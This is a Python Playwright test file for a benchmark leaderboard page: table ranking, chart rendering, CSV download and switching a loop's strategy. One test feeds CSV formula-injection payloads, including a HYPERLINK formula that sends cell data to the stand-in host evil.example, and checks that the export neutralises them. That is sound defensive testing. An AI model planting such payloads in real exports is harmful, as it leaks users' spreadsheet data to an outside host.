"""The leaderboard page in Chromium: ranked table, chart, CSV links, and "Use this miner"."""

from pathlib import Path

import pytest
from playwright.sync_api import expect

from apps.loops.models import Loop
from tests.loops.test_benchmarks import ROWS, finished_benchmark, row

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def test_leaderboard_chart_and_use_this_miner(
    page, log_in, live_portal, tiny_loop, admin_user, tmp_path
):
    job = finished_benchmark(tiny_loop, ROWS)
    log_in(admin_user)
    page.goto(f"{live_portal.url}/loops/{tiny_loop.pk}/")
    page.click("[data-testid=benchmarks-link]")
    expect(page.locator("[data-testid=benchmark-runs]")).to_contain_text(f"#{job.pk}")
    page.click(f"text=#{job.pk}")
    rows = page.locator("[data-testid=leaderboard] tbody tr")
    expect(rows).to_have_count(4)
    expect(rows.nth(0)).to_have_attribute("data-strategy", "All")
    expect(rows.nth(1)).to_have_attribute("data-strategy", "Coverage")
    # The F1-per-round chart is drawn, with one column per strategy in its numbers table.
    expect(page.locator("#benchmark-chart canvas")).to_have_count(1)
    expect(page.locator("#benchmark-chart table.numbers thead th")).to_have_count(5)
    expect(page.locator("[data-testid=benchmark-csv]")).to_be_visible()
    page.screenshot(path=str(tmp_path / "leaderboard.png"), full_page=True)
    page.click("[data-testid=use-Coverage]")
    page.wait_for_url(f"{live_portal.url}/loops/{tiny_loop.pk}/")
    expect(page.locator(".flash")).to_contain_text("now uses Coverage")
    assert "name: Coverage" in Loop.objects.get(pk=tiny_loop.pk).algorithm_yaml


def test_chart_csv_download_neutralises_formulas_and_an_all_zero_chart_starts_at_zero(
    page, log_in, live_portal, tiny_loop, admin_user
):
    # Strategy names become the chart's series names; a spreadsheet must not run them.
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    job = finished_benchmark(
        tiny_loop, [row(evil, 0.5, 0.2), row("-1+2", -0.25, 0.2), row("\t@SUM(A1)", 0.0, 0.1)]
    )
    log_in(admin_user)
    page.goto(f"{live_portal.url}/loops/{tiny_loop.pk}/benchmarks/{job.pk}/")
    chart = page.locator("#benchmark-chart")
    chart.locator("details.chart-data summary").click()
    with page.expect_download() as download:
        chart.locator("a.csv").click()
    text = Path(download.value.path()).read_text()
    assert text.splitlines() == [
        'round,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",\'-1+2,\'\t@SUM(A1)',
        "1,0.5,-0.25,0",  # numbers stay numbers, a negative one too
    ]
    assert y_axis(page) != [0, 1]

    # Every F1 0 (a tiny run): the axis shows 0 … 1, not -1 … 1.
    zero = finished_benchmark(tiny_loop, [row("Coverage", 0.0, 0.1), row("Random", 0.0, 0.2)])
    page.goto(f"{live_portal.url}/loops/{tiny_loop.pk}/benchmarks/{zero.pk}/")
    expect(page.locator("#benchmark-chart canvas")).to_have_count(1)
    assert y_axis(page) == [0, 1]


def y_axis(page) -> list:
    return page.evaluate(
        "(() => { const y = document.getElementById('benchmark-chart')._chart.scales.y;"
        " return [y.min, y.max]; })()"
    )
